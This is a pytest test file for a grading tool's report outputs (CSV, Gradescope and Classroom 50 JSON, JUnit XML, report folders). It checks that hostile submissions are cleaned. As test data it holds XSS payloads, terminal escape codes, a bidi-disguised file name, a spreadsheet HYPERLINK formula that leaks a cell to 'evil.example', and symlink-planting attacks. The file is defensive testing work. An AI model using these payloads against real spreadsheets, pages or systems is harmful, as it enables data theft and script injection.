"""Test the files with results: what is in them, and that no hostile submission can do harm in them."""

import csv
import io
import json
import os
import re
import resource
import shutil
import time
import xml.etree.ElementTree as ET
from contextlib import contextmanager
from dataclasses import replace

import pytest

from grading import formats
from grading.formats import LIMIT, clean, clean_line, render
from grading.record import CheckResult, ExerciseResult, Outcome, Person, StudentResult
from grading.reports import Busy, Reports, make_pseudonym, open_draft

SCRIPT = "<script>alert(1)</script>"
EVIL = (
    f"{SCRIPT}</pre></title></style><img src=x onerror=alert(2)>\"' onmouseover='alert(3)' {{{{ 7*7 }}}} "
    "<svg/onload=alert(4)> ]]> &lt; \x1b[31mred\x1b[0m \x1b]0;title\x07 \x00\x07\x9b \u202egnp.exe\u202c "
    "\ud800 \udcfc \ufffe \r\n https://evil.example/x.png "
)
NAMES = [
    SCRIPT,
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "Ünïcode 学生 🎓",
    "مريم الأندلسي",
    "a\u202enna",
    "\x1b[31manna\x1b[0m",
    "anna\x00\n\r\t",
    "M\udcfcller",
    "x" * 255,
]
HOSTILE = set("\x00\x07\x1b\x7f\x9b\r\u200b\u202e\u2066\ud800\udcfc\ufeff\ufffe")
ENVIRONMENT = {
    "CLASSROOM": "flask-101",
    "ASSIGNMENT": "jwt",
    "SUBMISSION_TAG": "submit/2026-06-01T14-32-05Z-a1b2c3d",
    "COMMIT_URL": "https://github.com/o/r/commit/1",
    "RELEASE_URL": "https://github.com/o/r/releases/tag/1",
}


ADA = Person("ada", "Lovelace, Ada", "ada@example.org", "2026-03-31")


def make(*outcomes, person="anna", exercise="01_auth_url", **fields):
    """Make a result with a check of 2 points for each outcome, and with evil text from the answer."""
    evil = dict.fromkeys(("sent", "expected", "got", "question", "message"), EVIL)
    checks = [
        CheckResult(
            f"test_{place}", f"Check {place} holds.", 2, outcome, **evil if outcome != "passed" else {}
        )
        for place, outcome in enumerate(map(Outcome, outcomes), start=1)
    ]
    fields = {"seed": 123, "file": EVIL, "printed": EVIL * 500} | fields
    person = person if isinstance(person, Person) else Person(person)
    return StudentResult(person, person.id, [ExerciseResult(exercise, 2 * len(checks), checks, **fields)])


def one_of_each(person="anna"):
    """Make a result with an exercise of every outcome, and with evil text everywhere."""
    result = make(*Outcome, person=person, problem=EVIL, comment=EVIL)
    result.exercises[0].checks.pop()  # the grader error, because it would leave no points
    for number, outcome in enumerate(Outcome, start=2):
        if outcome is not Outcome.GRADER_ERROR:
            result.exercises += make(outcome, outcome, exercise=f"{number:02}_more", problem=EVIL).exercises
    result.notes, result.submitted, result.repository, result.commit = [EVIL], EVIL, EVIL, EVIL
    return result


def write_csv(columns, rows):
    """Return a table as text and as rows."""
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\n").writerows([columns, *rows])
    return file.getvalue(), list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))


def grades(*results):
    return write_csv(formats.GRADES, [row for result in results for row in formats.grades_rows(result)])


def totals(*results, exercises=("01_auth_url",)):
    rows = [formats.totals_row(result, exercises) for result in results]
    return write_csv(formats.totals_columns(exercises), rows)


def gradescope(result):
    return json.loads(render("results.json", result))


def classroom50(result, environment):
    with pytest.MonkeyPatch.context() as patch:
        for name in (*ENVIRONMENT, "REVIEW_URL"):
            patch.delenv(name, raising=False)
        for name, value in environment.items():
            patch.setenv(name, value)
        return json.loads(render("result.json", result))


def junit(result):
    return render("junit.xml", result)


# cleaning


def test_a_cleaned_text_has_no_character_that_a_terminal_obeys_or_xml_or_utf_8_forbids():
    cleaned = clean(EVIL + "".join(map(chr, range(0x11000))))
    assert not set(cleaned) & HOSTILE
    assert "red" in cleaned
    assert "[31m" not in cleaned
    assert "]0;title" not in cleaned
    ET.fromstring(f"<a>{cleaned.replace('&', '').replace('<', '')}</a>".replace("]]>", "").encode())


def test_a_long_text_is_cut_and_marked_as_cut():
    assert clean("x" * LIMIT) == "x" * LIMIT
    assert len(clean("x" * 100_000)) == LIMIT
    assert clean("x" * 100_000).endswith("… (cut)")


PERSIAN, HINDI, EMOJI = "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "\U0001f469\u200d\U0001f4bb"


@pytest.mark.parametrize("name", ["Ünïcode 学生 🎓", "مريم الأندلسي", PERSIAN, HINDI, EMOJI, "O'Neil-Smith"])
def test_a_name_in_any_script_stays_as_it_is(name):
    assert clean_line(name) == name


@pytest.mark.parametrize("invisible", ["\u202e", "\x1b[31m", "\x00", "\n", "\r", "\t", "\u200b", "\ud800"])
def test_a_name_with_an_invisible_character_differs_from_the_name_without_it(invisible):
    for name in (f"{invisible}anna", f"an{invisible}na", f"anna{invisible}"):
        assert "\ufffd" in clean_line(name)
        assert clean_line(name).isprintable()


def test_a_hundred_kilobytes_of_escapes_are_cleaned_within_a_second():
    start = time.perf_counter()
    for text in ("\x1b[" * 50_000, "\x1b]" * 50_000, "\x1b[" + "0" * 100_000, "\x1b]" + " " * 100_000):
        clean(text)
    assert time.perf_counter() - start < 1


# the tables


def test_the_grades_have_a_row_for_each_exercise_in_the_columns_of_nbgrader():
    text, rows = grades(make("passed", "failed"))
    assert text.splitlines()[0] == (
        "assignment,duedate,timestamp,student_id,last_name,first_name,email,"
        "raw_score,late_submission_penalty,score,max_score,outcome,comment"
    )
    known = {"assignment": "01_auth_url", "student_id": "anna", "outcome": "failed"}
    known |= {"raw_score": "2", "score": "2", "max_score": "4", "late_submission_penalty": "0"}
    assert rows == [dict.fromkeys(formats.GRADES, "") | known]


@pytest.mark.parametrize(
    ("name", "first", "last"),
    [
        ("Lovelace, Ada", "Ada", "Lovelace"),
        ("Ada King Lovelace", "Ada King", "Lovelace"),
        ("van Rossum, Guido", "Guido", "van Rossum"),
        ("Madonna", "", "Madonna"),
    ],
)
def test_the_grades_say_who_the_student_is_and_when_the_answers_came(name, first, last):
    result = make("passed", person=replace(ADA, name=name))
    result.submitted = "2026-03-30T12:00:00+00:00"
    _, (row,) = grades(result)
    assert (row["first_name"], row["last_name"], row["email"]) == (first, last, "ada@example.org")
    assert (row["duedate"], row["timestamp"]) == ("2026-03-31", "2026-03-30T12:00:00+00:00")


def test_manual_points_count_and_the_points_of_the_checks_stay_visible():
    by_hand = {"manual_points": 3.5, "comment": "Oral exam.\nWell done"}
    _, (row,) = grades(make("passed", "failed", **by_hand))
    assert (row["raw_score"], row["score"], row["comment"]) == ("2", "3.5", "Oral exam. Well done")
    _, (row,) = grades(make("grader error", **by_hand))
    assert (row["raw_score"], row["score"]) == ("", "3.5")


def test_the_grades_have_sums_as_people_write_them():
    result = make("passed", "passed", "passed")
    for check, points in zip(result.exercises[0].checks, (0.1, 0.2, 0.4), strict=True):
        check.max_points = points
    _, (row,) = grades(result)
    assert row["raw_score"] == row["score"] == "0.7"


def test_the_grades_have_no_points_for_a_grader_error_and_a_zero_for_nothing_handed_in():
    _, (row, other) = grades(make("passed", "grader error"), make("not handed in"))
    assert row["score"] == row["raw_score"] == ""
    assert other["score"] == other["raw_score"] == "0"


def test_the_totals_have_one_row_for_each_student_in_columns_for_canvas_and_moodle():
    results = [
        make("passed", "failed", person=ADA, comment="Nice"),
        make("not handed in"),
        make("passed", "grader error", person="ben"),
    ]
    results[0].exercises += make("passed", exercise="03_auth_key", manual_points=1.5).exercises
    text, rows = totals(*results, exercises=["01_auth_url", "03_auth_key"])
    assert text.splitlines()[0] == (
        "Student,ID,SIS User ID,SIS Login ID,Section,Exercise 1: Log in at another URL,"
        "Exercise 3: Log in with a phone number and a PIN,Total,Maximum points,"
        "ID number,Email address,Outcome,Comment,Report"
    )
    assert list(rows[0].values()) == [
        *("Lovelace, Ada", "", "ada", "ada", "", "2", "1.5", "3.5", "6", "ada", "ada@example.org", "failed"),
        *("1: Nice", "students/ada"),
    ]
    assert [(row["Student"], row["Total"], row["Outcome"]) for row in rows[1:]] == [
        ("anna", "0", "not handed in"),
        ("ben", "", "grader error"),
    ]
    assert {row["Exercise 3: Log in with a phone number and a PIN"] for row in rows[1:]} == {""}


@pytest.mark.parametrize("sign", "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\t\r\n")
@pytest.mark.parametrize("before", ["", " ", "\u00a0 ", "anna;", "anna, "])
def test_no_cell_of_a_table_is_a_formula(sign, before):
    evil = f"{before}{sign}1+1"
    result = make("passed", person=Person(evil, evil, evil, evil), comment=evil)
    result.submitted = evil
    for _, rows in (grades(result), totals(result)):
        cells = [cell for cell in rows[0].values() if "1+1" in cell]
        assert len(cells) == 6
        for part in ",".join(cells).replace(";", ",").split(","):
            assert not part.strip() or part.strip()[0] in "'a\ufffd1"


def test_a_table_has_one_line_for_each_row_in_utf_8_with_hostile_names():
    results = [make("passed", person=name) for name in NAMES]
    for (text, rows), id in ((grades(*results), "student_id"), (totals(*results), "ID number")):
        assert len(text.encode("utf-8").split(b"\n")) == len(NAMES) + 2
        assert b"\r" not in text.encode("utf-8")
        assert not set(text) & HOSTILE
        assert [row.get("outcome") or row["Outcome"] for row in rows] == ["passed"] * len(NAMES)
        assert len({row[id] for row in rows}) == len(NAMES)


# Gradescope and Classroom 50


def test_gradescope_gets_the_points_and_a_test_for_each_check():
    results = gradescope(make("passed", "failed", "skipped", exercise="07_more"))
    assert results["score"] == 2
    assert results["stdout_visibility"] == "hidden"
    assert [(test["number"], test["status"]) for test in results["tests"]] == [
        ("7.1", "passed"),
        ("7.2", "failed"),
        ("7.3", "failed"),
    ]
    assert sum(test["score"] for test in results["tests"]) == results["score"]
    assert {results["output_format"], *(test["output_format"] for test in results["tests"])} == {"text"}


def test_classroom_50_gets_whole_numbers_and_test_names_without_hostile_text():
    result = classroom50(one_of_each(EVIL), ENVIRONMENT)
    assert result["schema"] == "classroom50/result/v1"
    assert result["submission"] == ENVIRONMENT["SUBMISSION_TAG"]
    assert result["review"] == ENVIRONMENT["COMMIT_URL"]
    for part in (result, *result["tests"]):
        assert {type(part["score"]), type(part["max-score"])} == {int}
        assert 0 <= part["score"] <= part["max-score"]
    assert sum(test["score"] for test in result["tests"]) == result["score"]
    for test in result["tests"]:
        assert re.fullmatch(r"\d+\.\d Check \d holds\.", test["test-name"])


def test_gradescope_shows_who_it_is_and_what_the_instructor_adds():
    result = make("failed", person=ADA, printed="", manual_points=1.5, comment="Oral exam")
    result.notes = ["You changed app.py."]
    output = gradescope(result)["output"].splitlines()
    assert output == [
        "Lovelace, Ada, due 2026-03-31",
        "You changed app.py.",
        "Exercise 1: Log in at another URL: failed, 1.5 of 2.",
        "Your instructor gave 1.5 of 2 points. Comment: Oral exam",
    ]
    assert gradescope(result)["score"] == 1.5


def test_classroom_50s_result_comes_from_the_repository_without_its_environment():
    result = make("passed")
    result.repository, result.commit = "https://github.com/flask-101/jwt-ada.git", "c" * 40
    commit = f"https://github.com/flask-101/jwt-ada/commit/{'c' * 40}"
    filled = classroom50(result, {})
    names = ("classroom", "assignment", "submission", "commit", "release", "review")
    assert [filled[name] for name in names] == ["flask-101", "jwt-ada", "c" * 40, commit, "", commit]
    filled = classroom50(result, ENVIRONMENT)
    assert [filled[name] for name in names] == [*ENVIRONMENT.values(), ENVIRONMENT["COMMIT_URL"]]
    assert {classroom50(make("passed"), {})[name] for name in names} == {""}


def test_classroom_50_gets_points_with_decimals_unchanged():
    result = make("failed", manual_points=1.5)
    assert classroom50(result, {})["score"] == 1.5


def test_the_json_of_a_hostile_result_is_clean_and_short():
    for results in (gradescope(one_of_each(EVIL)), classroom50(one_of_each(EVIL), ENVIRONMENT)):
        text = json.dumps(results, ensure_ascii=False)
        text.encode("utf-8")
        assert not set(text) & HOSTILE
        assert max(len(test["output"]) for test in results["tests"]) < 6 * LIMIT


def test_a_traceback_that_every_check_has_is_shown_once():
    result = make(*["did not start"] * 5)
    for check in result.exercises[0].checks:
        check.message = "NameError: once"
    for template in ("results.json", "result.json", "junit.xml"):
        assert render(template, result).count("NameError: once") == 1


# JUnit


def test_junit_counts_its_cases_and_has_the_points_as_properties():
    suite = ET.fromstring(junit(make(*Outcome, printed="")).encode()).find("testsuite")
    assert suite.attrib == {
        "name": "01_auth_url",
        "tests": "10",
        "failures": "3",  # one failed, one is the starter, one was not handed in
        "errors": "5",
        "skipped": "1",
    }
    kinds = [next((child.tag for child in case if child.tag != "properties"), "passed") for case in suite]
    assert kinds == [
        *("passed", "skipped", "failure", "error", "error", "error"),
        *("failure", "failure", "error", "error"),
    ]
    first = {
        item.get("name"): item.get("value") for item in suite.iterfind("testcase[1]/properties/property")
    }
    assert first == {"sentence": "Check 1 holds.", "points": "2", "max_points": "2"}


def test_the_traceback_of_a_grader_error_is_only_in_the_record():
    result = make("grader error", printed="")
    result.exercises[0].checks[0].message = "disk full\nTraceback: a path"
    assert "disk full" in junit(result)
    assert "Traceback" not in junit(result)


def test_junit_has_what_the_instructor_adds():
    properties = ET.fromstring(junit(make("failed", manual_points=1.5, comment="Oral exam"))).find(
        "testsuite/properties"
    )
    assert properties[0].attrib == {
        "name": "instructor",
        "value": "Your instructor gave 1.5 of 2 points. Comment: Oral exam",
    }


@pytest.mark.parametrize("name", [EVIL, *NAMES], ids=range(10))
def test_junit_with_hostile_text_can_be_parsed(name):
    root = ET.fromstring(junit(one_of_each(name)).encode("utf-8"))
    assert SCRIPT in root.find("testsuite/testcase/failure").text
    assert not set("".join(root.itertext())) & HOSTILE
    assert root.get("name") == clean_line(name)


# the folder


@pytest.fixture
def reports(tmp_path):
    return Reports(tmp_path / "out")


def lost(id):
    return make("grader error", person=id, problem="The record is lost.")


def finish(reports, *ids, **more):
    results = [reports.find(id) or lost(id) for id in ids]
    return reports.finish(results, ["01_auth_url"], **more)


def files_in(folder):
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()
    }


def test_the_folder_has_reports_of_each_student_and_of_the_class(reports):
    reports.keep(one_of_each("anna"))
    finish(reports, "anna")
    assert files_in(reports.folder).keys() == {
        *("grades.csv", "totals.csv", "index.html"),
        *(f"students/anna/{name}" for name in ("record.json", "index.html", "results.json", "result.json")),
        "students/anna/junit.xml",
    }
    assert reports.find("anna") == one_of_each("anna")
    assert reports.find("ben") is None


def test_a_student_with_a_grader_error_has_no_file_for_gradescope_or_classroom_50(reports):
    reports.keep(make("passed"))
    reports.keep(make("grader error"))
    assert not [name for name in files_in(reports.folder) if "result" in name]
    assert reports.find("anna").points is None


def test_excel_reads_the_totals_as_utf_8(reports):
    reports.keep(make("passed", person="Zoë"))
    finish(reports, "Zoë")
    assert (reports.folder / "totals.csv").read_bytes().startswith(b"\xef\xbb\xbfStudent,ID,")
    with open(reports.folder / "totals.csv", encoding="utf-8-sig", newline="") as file:
        assert [row["Student"] for row in csv.DictReader(file)] == ["Zoë"]
    assert (reports.folder / "grades.csv").read_bytes().startswith(b"assignment,")


def test_the_tables_are_the_same_bytes_after_every_run(reports, tmp_path):
    results = [make("passed", person=name) for name in NAMES]
    for result in results:
        reports.keep(result)
    finish(reports, *NAMES)
    again = Reports(tmp_path / "again")
    for result in reversed(results):
        again.keep(result)
    for _ in range(2):
        finish(again, *NAMES)
        assert files_in(again.folder) == files_in(reports.folder)


def test_a_lost_record_is_a_grader_error_of_this_student_only(reports):
    for name in ("anna", "ben", "cleo"):
        reports.keep(make("passed", person=name))
    (reports.folder / "students/anna/record.json").unlink()
    for text in ("", "[]", "1", '{"person": 1, "exercises": []}', '{"person": {}, "exercises": [1]}', "\x00"):
        (reports.folder / "students/ben/record.json").write_text(text)
        students = finish(reports, "anna", "ben", "cleo")
        assert [student.points for student in students] == [None, None, 2]
        rows = list(csv.DictReader((reports.folder / "grades.csv").read_text().splitlines()))
        assert [(row["student_id"], row["score"]) for row in rows] == [
            ("anna", ""),
            ("ben", ""),
            ("cleo", "2"),
        ]


def test_the_folder_keeps_the_seed_until_there_is_a_new_one(reports):
    first = reports.choose_seed(None, regrade=False)
    assert reports.choose_seed(None, regrade=False) == first
    second = reports.choose_seed(None, regrade=True)
    assert second != first
    assert reports.choose_seed(None, regrade=False) == second
    assert reports.choose_seed(3, regrade=True) == reports.choose_seed(3, regrade=False) == 3
    assert reports.choose_seed(None, regrade=False) == 3


def test_two_runs_cannot_use_one_folder(reports):
    with reports.lock(), pytest.raises(Busy, match="Another run writes to"), Reports(reports.folder).lock():
        pass
    with reports.lock():
        pass


def test_anonymous_reports_do_not_show_who_the_student_is(reports):
    result = make("failed", "passed", person=ADA)
    result.source, result.repository, result.commit = "ada.zip", "https://github.com/ada/lovelace", "c" * 40
    reports.keep(replace(result, pseudonym=make_pseudonym(7, "ada")))
    finish(reports, "ada")
    folder = reports.folder / "anonymous" / make_pseudonym(7, "ada")
    assert files_in(folder).keys() == {"index.html", "results.json", "result.json", "junit.xml"}
    assert files_in(reports.folder / "students").keys() == {"ada/record.json"}
    for content in files_in(folder).values():
        assert folder.name.encode() in content or b"classroom50" in content
        assert not re.search(rb"\bada\b|lovelace|c{40}", content, re.IGNORECASE)
    with open(reports.folder / "totals.csv", encoding="utf-8-sig") as file:
        assert [row["Report"] for row in csv.DictReader(file)] == [f"anonymous/{folder.name}"]


def test_pseudonyms_differ_between_students_and_runs():
    names = {make_pseudonym(seed, id) for seed in range(3) for id in NAMES}
    assert len(names) == 3 * len(NAMES)
    assert all(re.fullmatch(r"student-[0-9a-f]{16}", name) for name in names)


# the folder: links, and what else can go wrong


@pytest.mark.parametrize("place", ["students", "students/anna", "anonymous", "anonymous/student-1"])
def test_no_report_is_written_through_a_link_to_another_folder(reports, tmp_path, place):
    other = tmp_path / "other"
    other.mkdir()
    (reports.folder / place).parent.mkdir(exist_ok=True)
    (reports.folder / place).symlink_to(other)
    with pytest.raises(NotADirectoryError, match="it is a link") as problem:
        reports.keep(replace(make("passed"), pseudonym="student-1"))
    assert problem.value.filename == str(reports.folder / place)
    assert list(other.iterdir()) == []


@pytest.mark.parametrize("name", ["grades.csv", "totals.csv", "index.html", "students/anna/junit.xml"])
def test_a_link_in_place_of_a_report_is_replaced_and_its_target_stays(reports, tmp_path, name):
    target = tmp_path / "target"
    target.write_text("precious")
    reports.keep(make("passed"))
    report = reports.folder / name
    for planted in (report, report.with_name(f".{report.name}.draft")):
        planted.unlink(missing_ok=True)
        planted.symlink_to(target)
    reports.keep(make("passed"))
    finish(reports, "anna")
    assert not (reports.folder / name).is_symlink()
    assert not planted.is_symlink()
    assert target.read_text() == "precious"


def test_a_draft_follows_no_link_that_somebody_plants_at_the_last_moment(tmp_path, monkeypatch):
    monkeypatch.setattr("pathlib.Path.unlink", lambda path, missing_ok=False: None)
    (tmp_path / "target").write_text("precious")
    (tmp_path / ".grades.csv.draft").symlink_to(tmp_path / "target")
    with pytest.raises(FileExistsError), open_draft(tmp_path / "grades.csv") as file:
        file.write("x")
    assert (tmp_path / "target").read_text() == "precious"


def test_the_folder_itself_can_be_a_link(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    Reports(tmp_path / "link").keep(make("passed"))
    assert (tmp_path / "real/students/anna/record.json").is_file()


@contextmanager
def largest_file(size):
    """Let no file of this process grow beyond a size. A full disk has the same effect."""
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, limits[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)


def test_a_file_that_cannot_be_written_is_named_and_the_old_one_stays(reports):
    reports.keep(make("passed"))
    finish(reports, "anna")
    before = files_in(reports.folder)
    with largest_file(100), pytest.raises(OSError, match="File too large") as problem:
        finish(reports, "anna")
    assert problem.value.filename in [str(reports.folder / name) for name in ("grades.csv", "totals.csv")]
    assert files_in(reports.folder) == before
    with largest_file(100), pytest.raises(OSError, match="File too large") as problem:
        reports.keep(make("failed"))
    assert problem.value.filename == str(reports.folder / "students/anna/index.html")
    assert reports.find("anna") is None
    assert before.keys() - files_in(reports.folder).keys() == {"students/anna/record.json"}


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="only Linux has /dev/full")
def test_a_full_disk_is_named_with_the_file(tmp_path, monkeypatch):
    monkeypatch.setattr("builtins.open", lambda *options, open=open, **more: open("/dev/full", "w"))
    with (
        pytest.raises(OSError, match="No space left on device") as problem,
        open_draft(tmp_path / "x") as file,
    ):
        file.write("x")
    assert problem.value.filename == str(tmp_path / "x")


def test_an_interrupted_report_leaves_the_old_file_and_no_draft(tmp_path):
    path = tmp_path / "grades.csv"
    path.write_text("old")
    draft = open_draft(path)
    draft.__enter__().write("new")
    assert draft.__exit__(KeyboardInterrupt, KeyboardInterrupt(), None) is False
    assert files_in(tmp_path) == {"grades.csv": b"old"}


def test_a_folder_that_disappears_is_named_and_not_made_again(reports, tmp_path):
    reports.keep(make("passed"))
    reports.folder.rename(tmp_path / "moved")
    for write in (lambda: reports.keep(make("passed", person="ben")), lambda: finish(reports, "anna")):
        with pytest.raises(FileNotFoundError) as problem:
            write()
        assert problem.value.filename.startswith(str(reports.folder))
        assert not reports.folder.exists()
    shutil.move(tmp_path / "moved", reports.folder)
    finish(reports, "anna")
    assert "anna" in (reports.folder / "grades.csv").read_text()
